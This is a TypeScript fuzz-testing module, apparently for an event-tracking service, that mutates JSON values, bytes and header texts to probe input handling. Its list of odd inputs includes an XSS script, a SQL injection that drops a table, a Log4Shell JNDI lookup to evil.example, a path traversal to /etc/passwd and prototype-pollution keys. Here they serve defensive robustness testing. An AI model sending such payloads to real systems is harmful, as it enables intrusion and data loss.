import { Buffer } from "node:buffer";
import type { Chance } from "./chance.ts";

/** Changes to what real senders send: values nobody meant, keys that are not there, structures too deep, bytes of any kind. */

const TEXTS = [
  "",
  " ",
  "null",
  "undefined",
  "NaN",
  "-0",
  "1e999",
  "9".repeat(400),
  "0".repeat(300) + "x",
  "__proto__",
  "constructor",
  "\u0000",
  "\ud800",
  "\u202e",
  "a\u0301".repeat(200),
  "<script>alert(1)</script>",
  "'; drop table trakit.events; --",
  "${jndi:ldap://evil.example}",
  "../../../etc/passwd",
  "gid://shopify/Order/",
  "gid://shopify/Order/99999999999999999999999",
  "https://evil.example/?email=a@b.example&fbclid=x",
  "javascript:alert(1)",
  "%",
  "%E0%A4%A",
  "+1 (555) 010-9999",
  "qz@example.com",
  "2026-13-45T99:99:99Z",
  "0001-01-01T00:00:00Z",
  "+275760-09-13T00:00:00.001Z",
  "﷽".repeat(50),
  "İ".repeat(50),
  "ß".repeat(50),
  "1,50",
  "US-",
  "xx",
];
const VALUES: readonly unknown[] = [
  null,
  true,
  false,
  0,
  -1,
  1.5,
  1e308,
  -1e308,
  2 ** 53,
  Number.MAX_SAFE_INTEGER,
  [],
  {},
  [null],
  [[[[]]]],
  { toString: null },
  { length: -1 },
  { then: "x" },
];

function longText(chance: Chance): string {
  const part = chance.pick([
    "/",
    "=",
    " ",
    "0",
    "a@.",
    "a.",
    "-",
    ":",
    "[",
    "{",
    '\\"',
    "%20",
    "a/../",
    "é",
    "\u0301\u0323",
  ]);
  return part.repeat(Math.floor((chance.likely(0.1) ? 60_000 : 3_000) / part.length)) +
    chance.pick(["", "x"]);
}

/** A value that is in nobody's documentation. */
export function oddValue(chance: Chance): unknown {
  if (chance.likely(0.02)) return longText(chance);
  if (chance.likely(0.01)) {
    let deep: unknown = structuredClone(chance.pick(VALUES));
    for (let level = 0; level < 300; level++) deep = chance.likely(0.5) ? [deep] : { a: deep };
    return deep;
  }
  return chance.likely(0.6) ? chance.pick(TEXTS) : structuredClone(chance.pick(VALUES));
}

type Box = Record<string, unknown> | unknown[];

/** The objects and lists in a value, itself among them. */
function boxes(value: unknown, found: Box[] = []): Box[] {
  if (typeof value !== "object" || value === null) return found;
  found.push(value as Box);
  for (const inner of Object.values(value)) boxes(inner, found);
  return found;
}

/** Changes a JSON value in one to four places. The value itself is changed. */
export function mutateValue(value: unknown, chance: Chance): unknown {
  for (let times = 1 + chance.below(4); times > 0; times--) {
    const all = boxes(value);
    if (all.length === 0) return oddValue(chance);
    const box = chance.pick(all) as Record<string, unknown>;
    const keys = Object.keys(box);
    const key = keys.length > 0 ? chance.pick(keys) : "x";
    const how = chance.below(7);
    if (how <= 2) box[key] = oddValue(chance);
    else if (how === 3) delete box[key];
    else if (how === 4) {
      Object.defineProperty(box, chance.pick(TEXTS) || "x", {
        value: oddValue(chance),
        enumerable: true,
        configurable: true,
        writable: true,
      });
    } else if (how === 5) {
      const other = chance.pick(all) as Record<string, unknown>;
      box[key] = structuredClone(other[chance.pick(Object.keys(other)) ?? "x"] ?? null);
    } else if (Array.isArray(box)) {
      // many of something small: lists of lists would grow beyond what a text can hold
      const many = chance.likely(0.05) && typeof box[0] !== "object" ? 2_000 : 5;
      for (let at = 0; at < many; at++) box.push(box[0] ?? null);
    } else box[key] = [box[key], box[key]];
  }
  return value;
}

/** Changes bytes: flips, cuts, doubles, puts others in. */
export function mutateBytes(bytes: Uint8Array, chance: Chance): Uint8Array {
  let changed = Buffer.from(bytes);
  for (let times = 1 + chance.below(4); times > 0; times--) {
    const at = chance.below(changed.length + 1);
    const how = chance.below(4);
    if (how === 0 && at < changed.length) changed[at] = chance.below(256);
    else if (how === 1) changed = changed.subarray(0, at);
    else if (how === 2) {
      changed = Buffer.concat([changed.subarray(0, at), anyBytes(chance, 8), changed.subarray(at)]);
    } else changed = Buffer.concat([changed.subarray(0, at), changed.subarray(Math.max(0, at - 20))]);
  }
  return changed;
}

export function anyBytes(chance: Chance, most: number): Uint8Array {
  return Uint8Array.from({ length: chance.below(most + 1) }, () => chance.below(256));
}

/** A text as a header may hold it: one line of bytes. */
export function headerText(text: unknown): string {
  return String(text).replace(/[^\x20-\x7e\x80-\xff]/g, "?").slice(0, 70_000).trim();
}

/** A text in place of the one that is meant: that one, changed, or another. */
export function oddText(text: string, chance: Chance): string {
  const how = chance.below(6);
  if (how === 0) return String(chance.pick(TEXTS));
  if (how === 1) return text.slice(0, chance.below(text.length + 1));
  if (how === 2) return text + chance.pick(TEXTS);
  if (how === 3) return longText(chance);
  if (how === 4) return text.toUpperCase();
  return Buffer.from(mutateBytes(Buffer.from(text), chance)).toString("latin1");
}
